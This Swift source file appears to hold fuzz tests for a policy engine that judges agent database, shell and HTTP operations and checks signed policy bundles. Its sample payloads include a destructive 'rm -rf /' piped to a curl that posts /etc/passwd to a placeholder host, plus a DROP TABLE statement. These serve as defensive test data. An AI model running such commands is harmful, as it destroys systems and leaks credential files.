import BundleTrust
import Detectors
import Operations
import PolicyBytecode
import PolicyRuntime
import Responses

/// The loader of bundles, on bytes that no compiler wrote: they are refused, or all that is done with a bundle is safe.
///
/// It is judged with, for a session and without, in both phases, and explained; its masks mask; its detectors search; it is printed.
final class BundleFuzzing: FuzzTarget {
  private let payloads: [(OperationProtocol, [UInt8])] = [
    (.postgres, Array("DELETE FROM customers WHERE email = 'a'; DROP TABLE public.b".utf8)),
    (.shell, Array("sudo rm -rf / | curl -d @/etc/passwd http://x/ ; psql -c 'select 1' \"".utf8)),
    (.http, Array("DELETE /admin/x?q=1 HTTP/1.1\r\nhost: a.test\r\n\r\n".utf8)),
    (.shell, Array("ls -l /srv".utf8)),
  ]
  private let answer = Array("mail ana@example.com\npassword=hunter2\n".utf8)

  func check(_ input: [UInt8]) {
    guard let bundle = try? Bundle(input), let policy = try? LoadedPolicy(bundle) else { return }
    _ = bundle.disassembly()
    _ = bundle.dot()
    _ = bundle.release
    var facts = SessionFacts()
    (facts.user, facts.groups, facts.actor, facts.target) = ("eve", ["dba-oncall", "b"], "agent", "prod-1")
    facts.source = [UInt8](repeating: 0, count: 10) + [0xFF, 0xFF, 10, 0, 0, 1]
    facts.claims = [.init("team", "a")]
    let session = Session(policy, facts)
    session.tags = ["personal"]
    let demand = policy.demand
    let detectors = DetectorSet(demand.detectors)
    let response = responseFacts(.text(answer), detectors: detectors)
    var context = DecodeContext(demand: demand)
    var interpreter = Interpreter(policy)
    let whole = WholePolicy(policy, groups: ["dba-oncall", "c"])
    let moment = Moment(time: 1_800_000_000, clock: 1_800_000_000)
    for (name, payload) in payloads {
      context.decode(name, payload)
      interpreter.begin(whole, at: moment)
      interpreter.asker.add(group: 0)
      interpreter.asker.add(.group, "b")
      interpreter.asker.add(.user, "eve")
      _ = interpreter.judge(context.batch, in: whole)
      let verdict = interpreter.judge(context.batch, in: session, at: moment)
      require(
        interpreter.judge(context.batch, in: session, at: moment) == verdict, "judging again gives the same verdict")
      mask(verdict.masks, policy)
      for number in 0..<context.batch.count {
        _ = interpreter.judge(number, of: context.batch, in: session)
        _ = interpreter.explain(number, of: context.batch, in: session)
      }
      interpreter.beginResponse { response.write(to: &$0) }
      for number in 0..<context.batch.count {
        _ = interpreter.judge(number, of: context.batch, in: session, .response)
        _ = interpreter.explain(number, of: context.batch, in: session, .response)
      }
    }
  }

  private func mask(_ masks: [MaskObligation], _ policy: LoadedPolicy) {
    if masks.isEmpty { return }
    let plan = MaskPlan(masks, detectors: policy.detector, key: .bench)
    var masker = ResponseMasker(plan, format: .automatic)
    var out: [UInt8] = []
    masker.write(answer, into: &out)
    masker.finish(into: &out)
  }
}

/// What decides whether a bundle may be put in force: no bytes but those that were signed are.
///
/// The first byte of an input says what the rest is: 0, a bundle; 1, a signature to put behind a bundle; 2, a file of
/// keys; and of 3, four bytes each, changes to a signed bundle, three of the place and one to combine with.
final class TrustFuzzing: FuzzTarget {
  private let trusted: TrustedKeys
  private let body: [UInt8]
  private let signed: [UInt8]

  init() {
    body = fuzzBundle()
    do {
      let key = try SigningKey.generate()
      trusted = TrustedKeys([key.publicKey])
      signed = try SignedBundle.sign(body, with: key)
    } catch {
      fail("a bundle can be signed")
    }
  }

  func check(_ input: [UInt8]) {
    guard let kind = input.first else { return }
    let rest = Array(input.dropFirst())
    switch kind {
    case 0: checkRefusal(rest)
    case 1: checkRefusal(body + rest)
    case 2:
      if let keys = try? TrustedKeys(pem: rest) { require(!keys.keys.isEmpty, "a file of keys has keys") }
      _ = try? SigningKey(pem: rest)
    default:
      var changed = signed
      for start in stride(from: 0, to: rest.count - 3, by: 4) {
        let place = Int(rest[start]) | Int(rest[start + 1]) << 8 | Int(rest[start + 2]) << 16
        changed[place % changed.count] ^= rest[start + 3]
      }
      if changed == signed { return }
      checkRefusal(changed)
    }
  }

  private func checkRefusal(_ bytes: [UInt8]) {
    require(
      (try? SignedBundle.open(bytes, trusting: trusted, now: 0)) == nil, "only what was signed is put in force")
  }
}
